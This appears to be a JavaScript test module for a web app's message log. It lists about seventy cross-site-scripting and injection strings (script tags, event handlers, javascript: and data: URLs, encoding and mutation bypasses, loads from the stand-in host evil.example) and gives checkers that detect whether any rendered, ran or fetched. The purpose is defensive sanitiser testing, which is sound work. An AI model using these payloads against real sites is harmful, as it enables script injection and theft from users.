// Texts that would run or load something if they became markup, and how to detect that.

/** Each sets `window.ran` or requests something from `http://evil.example`. */
export const PAYLOADS = [
  "<script>window.ran = 'script'</script>",
  "<img src=x onerror=\"window.ran='img'\">",
  "text <svg onload=\"window.ran='svg'\"><circle/></svg> text",
  "<iframe srcdoc=\"<script>parent.ran='iframe'</script>\"></iframe>",
  "<details open ontoggle=\"window.ran='details'\"><summary>x</summary></details>",
  "<style>@import 'http://evil.example/style'; * { background: url(http://evil.example/css) }</style>",
  "<object data=\"javascript:window.ran='object'\"></object><embed src=\"http://evil.example/embed\">",
  "<form action=\"http://evil.example\"><button autofocus onfocus=\"window.ran='form'\">x</button></form>",
  "[click](javascript:window.ran='link')",
  "[click](JaVaScRiPt:window.ran='case')",
  "[click](&#106;avascript:window.ran='entity') [click](java&#10;script:window.ran='newline')",
  "[click](data:text/html,<script>parent.ran='data'</script>) [click](vbscript:x)",
  "<javascript:window.ran='autolink'>",
  "[ref]\n\n[ref]: javascript:window.ran='reference'",
  "![pixel](http://evil.example/pixel.gif) ![x](x\"onerror=\"window.ran='alt')",
  "[x](https://example.com/\"onmouseover=\"window.ran='attribute')",
  "`<img src=x onerror=\"window.ran='code'\">`\n\n```html\n<script>window.ran = 'fence'</script>\n```",
  "<a href=\"javascript:window.ran='anchor'\">click</a> <math><mi xlink:href=\"javascript:window.ran='math'\">x</mi></math>",
  "<scr<script>ipt>window.ran = 'nested'</scr</script>ipt>",
  "\u0000<script\u0000>window.ran = 'nul'</script>",
  "<body onload=\"window.ran='body'\">",
  "<video><source onerror=\"window.ran='source'\"></video>",
  "<audio src=x onerror=\"window.ran='audio'\"></audio>",
  "<video src=http://evil.example/video poster=http://evil.example/poster></video>",
  "<input autofocus onfocus=\"window.ran='input'\">",
  "<select autofocus onfocus=\"window.ran='select'\"></select>",
  "<textarea autofocus onfocus=\"window.ran='textarea'\"></textarea>",
  "<marquee onstart=\"window.ran='marquee'\">x</marquee>",
  "<svg><script>window.ran='svg script'</script></svg>",
  "<svg><animate onbegin=\"window.ran='animate'\" attributeName=x dur=1s></svg>",
  "<svg><a xlink:href=\"javascript:window.ran='svg link'\"><text y=9>x</text></a></svg>",
  "<svg><use href=\"http://evil.example/use.svg#x\"></use></svg>",
  "<svg><image href=\"http://evil.example/image.png\"></image></svg>",
  "<svg><foreignObject><iframe src=\"javascript:parent.ran='foreign'\"></iframe></foreignObject></svg>",
  "<svg><style><img src=x onerror=\"window.ran='mutation'\"></style></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=\"window.ran='mglyph'\">",
  "<noscript><p title=\"</noscript><img src=x onerror=window.ran='noscript'>\">",
  "<template><img src=x onerror=\"window.ran='template'\"></template>",
  "<link rel=stylesheet href=http://evil.example/link.css>",
  "<link rel=prefetch href=http://evil.example/prefetch>",
  "<meta http-equiv=refresh content=\"0;url=http://evil.example/refresh\">",
  "<base href=\"http://evil.example/\">",
  "<script src=http://evil.example/script.js></script>",
  "<script type=module>import('http://evil.example/module.js')</script>",
  "<img srcset=\"http://evil.example/srcset 1x\">",
  "<picture><source srcset=http://evil.example/picture><img></picture>",
  "<frameset onload=\"window.ran='frameset'\"><frame src=http://evil.example/frame></frameset>",
  "<iframe src=\"data:text/html,<script>parent.ran='data frame'</script>\"></iframe>",
  "<table background=\"http://evil.example/table\"><tr><td background=http://evil.example/td>x</td></tr></table>",
  "<div style=\"background:url(http://evil.example/style)\">x</div>",
  "<div style=\"width:expression(window.ran='expression')\">x</div>",
  "<div contenteditable onblur=\"window.ran='blur'\" tabindex=1 autofocus>x</div>",
  "<p onmouseover=\"window.ran='over'\" onpointerenter=\"window.ran='pointer'\">x</p>",
  "<button popovertarget=x>x</button><div popover id=x onbeforetoggle=\"window.ran='popover'\">x</div>",
  "<dialog open onclose=\"window.ran='dialog'\"><form method=dialog><button>x</button></form></dialog>",
  "<img src=\"x` `<script>window.ran='backtick'</script>\"` `>",
  "\"><img src=x onerror=\"window.ran='break out'\">",
  "' onfocus='window.ran=1' autofocus='",
  "</textarea><script>window.ran='after textarea'</script>",
  "</title></style></script><script>window.ran='after all'</script>",
  "<!--><img src=x onerror=\"window.ran='comment'\">-->",
  "<![CDATA[<img src=x onerror=\"window.ran='cdata'\">]]>",
  "<IMG SRC=x OnErRoR=\"window.ran='upper'\">",
  "<img/src=x/onerror=window.ran='slashes'>",
  "<img src=x onerror\u000c=window.ran='form feed'>",
  "&lt;img src=x onerror=\"window.ran='entities'\"&gt;",
  "\\u003cscript\\u003ewindow.ran='escaped'\\u003c/script\\u003e",
  "%3Cscript%3Ewindow.ran='percent'%3C/script%3E",
  "{{constructor.constructor('window.ran=1')()}} ${window.ran='dollar'}",
  "javascript:window.ran='bare'",
  "\u202e<script>window.ran='turned'</script>\u202c",
  "\ufeff<script>window.ran='bom'</script>",
  "＜script＞window.ran='wide'＜/script＞",
];

/** Records the tab's requests to servers other than its own. */
export function watch(tab) {
  const own = new URL(tab.url()).host;
  const strangers = [];
  tab.on("request", (request) => {
    const { protocol, host } = new URL(request.url());
    if (host !== own && protocol !== "data:") strangers.push(request.url());
  });
  tab.on("dialog", (dialog) => {
    strangers.push(`dialog: ${dialog.message()}`);
    dialog.dismiss();
  });
  return strangers;
}

/** What ran, what was loaded, and what could still do so, in words. Empty if all is well. */
export async function ranOrLoaded(tab, strangers) {
  const found = await tab.evaluate(async () => {
    const found = [];
    const inside = document.querySelector("[role=log]").querySelectorAll("*");
    const own = new Set(["svg", "path", "circle", "button", "details", "summary"]);
    const plain = new Set(["div", "p", "span", "article", "footer", "a", "code", "pre", "ul", "ol", "li", "em", "strong", "s",
      "h3", "h4", "h5", "h6", "blockquote", "hr", "br", "table", "thead", "tbody", "tr", "th", "td", "time", "dl", "dt", "dd", "i"]);
    for (const element of inside) {
      const name = element.localName;
      const isOwn = own.has(name) && (element.closest(".icon, .offline, .tool, .failure") || element.matches("button"));
      if (!plain.has(name) && !isOwn) found.push(`<${name}>`);
      for (const { name: attribute, value } of element.attributes) {
        if (attribute.startsWith("on") || attribute === "srcdoc" || attribute === "style") found.push(`${attribute}=${value}`);
      }
      if (name === "a" && !/^(https?|mailto):/.test(element.href)) found.push(element.href);
    }
    // Handlers of `error` and `load` run in a later task.
    await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)));
    if (window.ran) found.push(`ran: ${window.ran}`);
    return found;
  });
  return [...found, ...strangers];
}

/**
 * The same for the whole page: text of others is text wherever it stands.
 */
export async function ranOrLoadedAnywhere(tab, strangers) {
  const found = await tab.evaluate(async () => {
    const own = new Set(["header", "main", "nav", "section", "article", "footer", "form", "fieldset", "legend", "label", "input",
      "select", "option", "textarea", "button", "dialog", "details", "summary", "div", "p", "span", "h1", "h2", "h3", "h4", "h5",
      "h6", "ul", "ol", "li", "dl", "dt", "dd", "time", "a", "code", "pre", "kbd", "strong", "em", "s", "i", "blockquote", "hr",
      "br", "table", "thead", "tbody", "tr", "th", "td", "svg", "path", "circle"]);
    const found = [];
    for (const element of document.body.querySelectorAll("*")) {
      const name = element.localName;
      if (!own.has(name) || (name === "svg" && !element.matches("[aria-hidden=true]"))) found.push(`<${name}>`);
      for (const { name: attribute, value } of element.attributes) {
        const isUsed = attribute.startsWith("on") || ["srcdoc", "src", "srcset", "action", "formaction", "background", "popover"].includes(attribute);
        if (isUsed || (attribute === "style" && /url|expression/i.test(value))) found.push(`${attribute}=${value}`);
      }
      if (name === "a" && !/^(https?|mailto):/.test(element.href)) found.push(element.href);
    }
    await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)));
    if (window.ran) found.push(`ran: ${window.ran}`);
    return found;
  });
  return [...found, ...strangers];
}
